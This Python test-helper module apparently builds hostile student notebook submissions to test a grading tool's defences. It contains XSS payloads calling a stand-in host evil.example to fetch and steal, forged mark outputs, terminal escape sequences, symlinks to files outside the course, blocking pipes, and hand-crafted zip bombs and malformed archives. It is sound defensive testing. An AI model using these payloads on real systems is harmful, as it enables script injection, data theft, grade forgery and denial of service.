"""What hostile hand-ins are made of: notebooks with something done to them, zips made by hand, links, old formats."""

from __future__ import annotations

import io
import json
import struct
import warnings
import zipfile
import zlib
from collections.abc import Callable, Iterable, Mapping
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from pharmcalc.classroom.cells import cells_by_id, source_of
from tests.classroom.building import answered

Notebook = dict[str, Any]
Change = Callable[[Notebook], None]

EVIL = "https://evil.example/"
HACK = f"document.documentElement.setAttribute('data-hacked','1');alert(1);fetch('{EVIL}steal')"
#: Texts that run, fetch or link somewhere if a page lets them.
SCRIPTS = (
    f"<script>{HACK}</script>",
    f'<img src="{EVIL}x.png" onerror="{HACK}">',
    f"[click](javascript:{HACK})",
    f"![picture]({EVIL}y.png)",
    f'<svg onload="{HACK}"><a xlink:href="javascript:{HACK}">a</a><use href="{EVIL}z.svg"/></svg>',
    f'</div></pre></td></code></textarea><iframe srcdoc="<script>parent.{HACK}</script>"></iframe>',
    f"$$\\href{{javascript:{HACK}}}{{x}}$$ \\(\\unicode{{<script>}}\\) \\[\\require{{html}}\\]",
    f"<style>@import '{EVIL}x.css';</style><base href='{EVIL}'><meta http-equiv=refresh content='0;url={EVIL}'>",
    f"{{{{ '<script>{HACK}</script>' }}}} {{% raw %}} ${{{HACK}}}",
    f"<a href='{EVIL}'>your marks</a> <form action='{EVIL}'><input onfocus='{HACK}' autofocus></form>",
)
SCRIPT = "\n\n".join(SCRIPTS)

#: Right-to-left override, escape sequence, bell, NUL, half a character, byte order mark.
SIGNS = "\u202e\u2066\x1b]0;owned\x07\x1b[31m\x00\ud800\ufeff"


@dataclass(frozen=True)
class Link:
    """A link; ``to`` is ``victim`` (a file outside the course), ``victims`` (its folder), or a path in the course."""

    to: str


@dataclass(frozen=True)
class Pipe:
    """A named pipe: whoever opens it to read waits for ever."""


Thing = bytes | Link | Pipe
Files = dict[str, Thing]


# Notebooks -----------------------------------------------------------------------------------------------------------


def half_right(release: Mapping[str, Any], number: str, change: Change | None = None) -> Notebook:
    """Return a notebook that answers q1 rightly and q2 not at all; then something is done to it."""
    return answered(release, number, {"q2": ""}, change=change)


def as_bytes(nb: Any) -> bytes:
    """Return a notebook as a file."""
    return json.dumps(nb).encode()


def changed(change: Change) -> Callable[[Mapping[str, Any], str], Files]:
    """Return a maker of a hand-in: a notebook with q1 right and q2 empty, and something done to it."""
    return lambda release, number: {f"{number}/work.ipynb": as_bytes(half_right(release, number, change))}


def rewritten(write: Callable[[str], bytes | str]) -> Callable[[Mapping[str, Any], str], Files]:
    """Return a maker of a hand-in whose text as a file was written another way."""

    def make(release: Mapping[str, Any], number: str) -> Files:
        text = write(json.dumps(half_right(release, number)))
        return {f"{number}/work.ipynb": text.encode() if isinstance(text, str) else text}

    return make


def code(*sources: str) -> Change:
    """Return a change that adds code cells, at the top and at the end, as a student who wants them run would."""

    def add(nb: Notebook) -> None:
        cells = [
            {"cell_type": "code", "id": f"x{n}", "metadata": {}, "source": s, "outputs": [], "execution_count": 1}
            for n, s in enumerate(sources)
        ]
        nb["cells"] = [*cells, *nb["cells"], *cells]

    return add


def without(*names: str) -> Change:
    """Return a change that deletes cells."""

    def delete(nb: Notebook) -> None:
        nb["cells"] = [cell for cell in nb["cells"] if cell["id"] not in names]

    return delete


def told(name: str, text: str) -> Change:
    """Return a change that puts a text of one's own into a cell."""
    return lambda nb: cells_by_id(nb)[name].update(source=text)


def forged_outputs(plain: str) -> Change:
    """Return a change that puts marks of one's own into the outputs of every mark cell."""

    def forge(nb: Notebook) -> None:
        record = {"points": "100", "cleared": True, "out_of": 2, "marks": 100, "verdicts": [], "student": "A-01"}
        data = {"text/plain": plain, "text/html": SCRIPT, "application/vnd.pharmcalc.mark+json": record}
        output = {"output_type": "execute_result", "execution_count": 1, "metadata": {}, "data": data}
        for name, cell in cells_by_id(nb).items():
            if name.startswith("mark-"):
                cell["outputs"] = [output]

    return forge


def settings(**values: Any) -> Change:
    """Return a change of nbgrader's settings in every cell."""

    def change(nb: Notebook) -> None:
        for cell in nb["cells"]:
            cell["metadata"]["nbgrader"].update(values)

    return change


def scripts_everywhere(nb: Notebook) -> None:
    """Put scripts into every field of a notebook that holds a text."""
    for cell in nb["cells"]:
        cell["metadata"] |= {"tags": [SCRIPT], "name": SCRIPT, SCRIPT: SCRIPT, "pharmcalc": {"text": SCRIPT}}
        cell["metadata"]["nbgrader"] |= {"comment": SCRIPT, "checksum": SCRIPT, SCRIPT: SCRIPT, "score": 100}
    cells = cells_by_id(nb)
    cells["student"]["source"] = f"{source_of(cells['student'])}\n{SCRIPT}"
    cells["answer-q2"]["source"] = f"%%answer q2\nmultiple factor = {SCRIPTS[0]}\n{SCRIPT}"
    cells["explain-1"] |= {"source": SCRIPT, "attachments": {SCRIPT: {"text/html": SCRIPT, "image/svg+xml": SCRIPT}}}
    cells["intro"]["source"] = SCRIPT
    data = {"text/html": SCRIPT, "image/svg+xml": SCRIPT, "application/javascript": HACK, SCRIPT: SCRIPT}
    shown = {"output_type": "display_data", "data": data, "metadata": {SCRIPT: SCRIPT}}
    for kind in ("markdown", "raw", "code", "heading", SCRIPT):
        extra = {"cell_type": kind, "id": SCRIPT, "metadata": {"format": SCRIPT}, "source": f"%%html\n{SCRIPT}"}
        nb["cells"].append(extra | {"outputs": [shown], "execution_count": SCRIPT})
    nb["metadata"] |= {
        "kernelspec": {"name": SCRIPT, "display_name": SCRIPT, "language": SCRIPT},
        "language_info": {"name": SCRIPT, "pygments_lexer": SCRIPT, "codemirror_mode": SCRIPT},
        "title": SCRIPT,
        "authors": [{"name": SCRIPT}],
        "widgets": {"application/vnd.jupyter.widget-state+json": {"state": {SCRIPT: SCRIPT}}},
        "pharmcalc": {"notes": [SCRIPT], "needs_eyes": [SCRIPT]},
    }


def old_format(nb: Notebook, major: int) -> Notebook:
    """Return a notebook as programs of long ago wrote it."""
    cells = []
    for cell in nb["cells"]:
        old = {"cell_type": cell["cell_type"], "metadata": cell["metadata"]}
        if cell["cell_type"] == "code":
            cells.append(old | {"input": cell["source"], "language": "python", "outputs": [], "collapsed": False})
        else:
            cells.append(old | {"source": cell["source"]})
    sheets = [{"cells": cells[:3], "metadata": {}}, {"cells": cells[3:]}]
    return {"nbformat": major, "nbformat_minor": 0, "metadata": {"name": "x"}, "worksheets": sheets}


def pointing_to_itself(nb: Notebook) -> None:
    """Write references as if the file could point to itself, and cells that hold cells."""
    reference = {"$ref": "#", "$id": "#", "parent": {"$ref": "#/cells/0"}}
    nb["metadata"] |= reference
    for cell in nb["cells"]:
        cell["metadata"] |= reference | {"cells": [{"$ref": "#/cells"}]}


def deep(levels: int) -> Any:
    """Return lists in lists."""
    found: Any = []
    for _ in range(levels):
        found = [found]
    return found


# Zips ----------------------------------------------------------------------------------------------------------------


def zipped(entries: Iterable[tuple[str | zipfile.ZipInfo, bytes]], how: int = zipfile.ZIP_DEFLATED) -> bytes:
    """Return a zip; names may be anything, also the same one twice."""
    file = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(file, "w", how) as archive:
        warnings.simplefilter("ignore")
        for name, data in entries:
            archive.writestr(name, data)
    return file.getvalue()


def entry(name: str, mode: int) -> zipfile.ZipInfo:
    """Return the head of an entry that says it is a link, a device ..."""
    made = zipfile.ZipInfo(name)
    made.create_system = 3
    made.external_attr = mode << 16
    return made


def bomb(name: str, size: int) -> bytes:
    """Return a zip with one file of blanks, which unpacks to a thousand times of what the zip weighs."""
    return zipped([(name, b" " * size)])


def overlapping(name: str, data: bytes, times: int) -> bytes:
    """Return a zip whose list names the same bytes many times over."""
    packed = zlib.compress(data, 9)[2:-4]
    crc, raw = zlib.crc32(data), name.encode()
    common = struct.pack("<HHHHHLLLHH", 20, 0, 8, 0, 33, crc, len(packed), len(data), len(raw), 0)
    local = b"PK\x03\x04" + common + raw + packed
    one = b"PK\x01\x02" + struct.pack("<H", 20) + common + struct.pack("<HHHLL", 0, 0, 0, 0, 0) + raw
    end = b"PK\x05\x06" + struct.pack("<HHHHLLH", 0, 0, times, times, len(one) * times, len(local), 0)
    return local + one * times + end


def lying_about_sizes(data: bytes) -> bytes:
    """Return the zip with sizes in its list that are not those of its files: all ones."""
    at = data.index(b"PK\x01\x02")
    return data[: at + 24] + struct.pack("<L", 7) + data[at + 28 :]


# Laying out ----------------------------------------------------------------------------------------------------------


def lay(folder: Path, files: Files, *, victim: Path, root: Path) -> None:
    """Lay files, links and pipes into a folder."""
    import os

    for name, thing in files.items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(thing, bytes):
            path.write_bytes(thing)
        elif isinstance(thing, Pipe):
            os.mkfifo(path)
        else:
            known = {"victim": victim, "victims": victim.parent}
            path.symlink_to(known.get(thing.to, root / thing.to))
